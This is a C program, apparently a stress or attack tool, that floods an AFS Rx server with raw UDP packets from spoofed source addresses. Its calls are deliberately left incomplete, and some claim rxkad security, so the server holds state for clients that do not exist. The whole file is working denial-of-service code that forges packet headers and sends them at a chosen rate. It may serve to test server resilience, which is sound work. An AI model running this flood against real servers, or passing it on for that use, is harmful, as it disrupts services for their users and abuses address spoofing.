/* Begins calls at an Rx server which nobody will go on with, each from an address of its own: 11.0.0.0 and following.
 *
 *   flood SERVER PORT SERVICE COUNT RATE        RATE packets a second
 *
 * A third of them are whole small requests, a third lack their first packet, and a third want to come under rxkad. Prints a
 * JSON object: packets, elapsedNanoseconds. Needs CAP_NET_RAW; the answers should lead to where nobody is. */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 32, DATA = 1, CLIENT_INITIATED = 1, LAST_PACKET = 4, RXKAD = 2, FIRST_SOURCE = 11 << 24 };

struct __attribute__((packed)) packet {
  struct iphdr ip;
  struct udphdr udp;
  uint32_t epoch, cid, call, seq, serial;
  uint8_t type, flags, status, security;
  uint16_t checksum, service;
  uint32_t body[4];
};

static void fail(const char *what) {
  fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
  exit(1);
}

static int64_t now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1000000000LL + time.tv_nsec;
}

static void sleep_until(int64_t time) {
  struct timespec at = {time / 1000000000, time % 1000000000};
  clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL);
}

static void make(struct packet *packet, uint32_t number, in_addr_t server, uint16_t port, uint16_t service) {
  memset(packet, 0, sizeof *packet);
  packet->ip.version = 4;
  packet->ip.ihl = 5;
  packet->ip.ttl = 64;
  packet->ip.protocol = IPPROTO_UDP;
  packet->ip.tot_len = htons(sizeof *packet);
  packet->ip.saddr = htonl(FIRST_SOURCE + number);
  packet->ip.daddr = server;
  packet->udp.source = htons(7001);
  packet->udp.dest = htons(port);
  packet->udp.len = htons(sizeof *packet - sizeof packet->ip);
  packet->epoch = htonl(0x80000000u | number);
  packet->cid = htonl(number << 2);
  packet->call = htonl(1);
  packet->seq = htonl(number % 3 == 1 ? 2 : 1);
  packet->serial = htonl(1);
  packet->type = DATA;
  packet->flags = CLIENT_INITIATED | LAST_PACKET;
  packet->security = number % 3 == 2 ? RXKAD : 0;
  packet->checksum = number % 3 == 2 ? htons(1) : 0;
  packet->service = htons(service);
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: flood SERVER PORT SERVICE COUNT RATE\n");
    return 64;
  }
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[1])};
  uint16_t port = atoi(argv[2]), service = atoi(argv[3]);
  uint32_t count = atoi(argv[4]), rate = atoi(argv[5]);
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s < 0) fail("socket");
  static struct packet packets[BATCH];
  struct iovec pieces[BATCH];
  struct mmsghdr messages[BATCH];
  memset(messages, 0, sizeof messages);
  for (int i = 0; i < BATCH; i++) {
    pieces[i] = (struct iovec){&packets[i], sizeof packets[i]};
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &pieces[i], .msg_iovlen = 1};
  }
  int64_t start = now();
  for (uint32_t sent = 0; sent < count;) {
    int batch = count - sent < BATCH ? (int)(count - sent) : BATCH;
    for (int i = 0; i < batch; i++) make(&packets[i], sent + i, to.sin_addr.s_addr, port, service);
    for (int done = 0; done < batch;) {
      int went = sendmmsg(s, messages + done, batch - done, 0);
      if (went < 0 && errno != ENOBUFS) fail("sendmmsg");
      if (went > 0) done += went;
    }
    sent += batch;
    sleep_until(start + (int64_t)(sent * 1e9 / rate));
  }
  printf("{\"packets\": %u, \"elapsedNanoseconds\": %lld}\n", count, (long long)(now() - start));
  return 0;
}
